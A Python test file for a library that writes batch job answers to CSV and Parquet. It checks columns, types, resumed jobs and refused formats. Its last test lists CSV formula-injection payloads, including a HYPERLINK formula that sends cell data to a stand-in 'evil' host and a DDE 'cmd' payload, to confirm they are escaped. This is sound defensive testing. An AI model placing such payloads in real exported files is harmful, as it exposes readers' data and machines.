"""Answers as CSV and Parquet (`runtime/jobs/outputs.py`): every row of the input, own fields and the properties of JSON
answers as columns.
"""

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest

from moedge.runtime.jobs.outputs import claim_output, schema_fields, write_table
from moedge.runtime.jobs.stop import Limits
from moedge.runtime.settings.errors import OutputRefused

USAGE = {"prompt_tokens": 3, "completion_tokens": 4, "total_tokens": 7}
LINES = [
    {"id": "a", "text": 'x,"y"\n', "finish_reason": "stop", "usage": USAGE, "label": "b", "big": 2**70,
     "list": [1, "ä"]},
    {"id": "b", "error": {"code": "invalid_value", "message": "m", "param": "n"}, "label": None},
    {"id": "c", "choices": [{"text": t, "finish_reason": "stop"} for t in "de"], "usage": USAGE, "flag": True},
    {"id": "x", "custom_id": "f", "response": {"body": {
        "error": {"code": "incomplete_output", "message": "m", "partial": "{"}, "metadata": {"k": 1}}}},
]  # fmt: skip
COLUMNS = ["id", "choice", "text", "partial", "finish_reason", "prompt_tokens", "completion_tokens", "error"]
OWN = ["label", "big", "list", "flag", "metadata"]


def written(suffix: str, lines: list[dict[str, Any]], schema: Any = None) -> bytes:
    sink = io.BytesIO()
    write_table(suffix, lambda: map(json.dumps, lines), schema_fields(schema and json.dumps(schema)), sink.write)
    return sink.getvalue()


def test_a_csv_table_has_a_row_for_every_answer_and_error() -> None:
    header, *rows = csv.reader(io.StringIO(written(".csv", LINES).decode(), newline=""))
    assert header == [*COLUMNS, *OWN]
    assert rows == [
        ["a", "", 'x,"y"\n', "", "stop", "3", "4", "", "b", str(2**70), '[1, "ä"]', "", ""],
        ["b", "", "", "", "", "", "", "invalid_value: m", "", "", "", "", ""],
        ["c", "0", "d", "", "stop", "3", "4", "", "", "", "", "true", ""],
        ["c", "1", "e", "", "stop", "3", "4", "", "", "", "", "true", ""],
        ["f", "", "", "{", "", "", "", "incomplete_output: m", "", "", "", "", '{"k": 1}'],
    ]


def test_a_parquet_table_has_types_and_the_same_rows() -> None:
    data = written(".parquet", LINES)
    assert data == written(".parquet", LINES)
    table = pq.read_table(io.BytesIO(data))
    assert table.column_names == [*COLUMNS, *OWN]
    assert [str(table.schema.field(name).type) for name in ("prompt_tokens", "flag", "big")] == [
        "int64",
        "bool",
        "string",
    ]
    assert table.column("id").to_pylist() == ["a", "b", "c", "c", "f"]
    assert table.column("list")[0].as_py() == '[1, "ä"]'


def test_the_properties_of_json_answers_are_columns_beside_own_fields_of_the_same_name() -> None:
    schema = {"properties": {"mood": {}, "n": {}, "text": {}}}
    text = json.dumps({"mood": "good", "n": [1], "text": "t"})
    lines = [{"id": "a", "text": text, "finish_reason": "stop", "usage": USAGE, "n": "mine"}]
    lines += [{"id": "b", "text": "not JSON", "finish_reason": "stop", "usage": USAGE}]
    first, second = csv.DictReader(io.StringIO(written(".csv", lines, schema).decode()))
    assert (first["mood"], first["answer_n"], first["n"], first["answer_text"]) == ("good", "[1]", "mine", "t")
    assert (first["text"], second["text"], second["mood"]) == (text, "not JSON", "")


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_a_job_that_was_stopped_and_resumed_writes_the_table_of_one_that_was_not(
    job: Callable[..., Any], rows_in: Callable[[int], Path], tmp_path: Path, suffix: str
) -> None:
    rows_in(9)
    (tmp_path / "other").mkdir()
    job(output=tmp_path / f"out{suffix}", limits=Limits(max_rows=4))
    assert (tmp_path / "out.partial.jsonl").is_file()
    for out in (tmp_path / f"out{suffix}", tmp_path / "other" / f"out{suffix}"):
        assert job(output=out).reason is None
        assert [json.loads(line)["id"] for line in out.with_suffix(".errors.jsonl").open()] == ["r2"]
    data = (tmp_path / f"out{suffix}").read_bytes()
    assert data == (tmp_path / "other" / f"out{suffix}").read_bytes()
    if suffix == ".csv":
        assert [row["id"] for row in csv.DictReader(io.StringIO(data.decode()))] == [f"r{row}" for row in range(9)]
    assert job(output=tmp_path / f"out{suffix}").summary.passes.count is None


@pytest.mark.parametrize("name", ["out.json", "out.tsv", "out.xls", "out.jsonl.zst"])
def test_a_name_of_another_format_is_refused(tmp_path: Path, name: str) -> None:
    with pytest.raises(OutputRefused, match=r"\.jsonl, \.csv, \.xlsx or \.parquet"):
        claim_output(tmp_path / name, tmp_path / "in.jsonl")


@pytest.mark.parametrize(("text", "safe"), [
    ('=HYPERLINK("http://evil/?"&A1)', '\'=HYPERLINK("http://evil/?"&A1)'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"), ("-2+3", "'-2+3"), ("\t=1", "'\t=1"), ("\uff1d1", "'\uff1d1"), ("\r\n=1", "'\r\n=1"),
    ("-2.5", "-2.5"), ("+49", "+49"), ("-1e5", "-1e5"), ("a=b", "a=b"), ("", ""), ("'=1", "'=1"),
])  # fmt: skip
def test_no_cell_of_a_table_of_documents_is_a_formula(text: str, safe: str) -> None:
    lines = [{"id": text, "text": text, "finish_reason": "stop", "usage": USAGE, text or "label": [text]}]
    tables = []
    for formulas in (False, True):
        sink = io.BytesIO()
        write_table(".csv", lambda: map(json.dumps, lines), None, sink.write, formulas=formulas)
        tables.append(list(csv.reader(io.StringIO(sink.getvalue().decode(), newline=""))))
    (header, (name, found, *_)), (_, (_, kept, *_)) = tables
    assert (name, found, kept) == (safe, safe, text)
    assert header[-1] == (safe or "label")
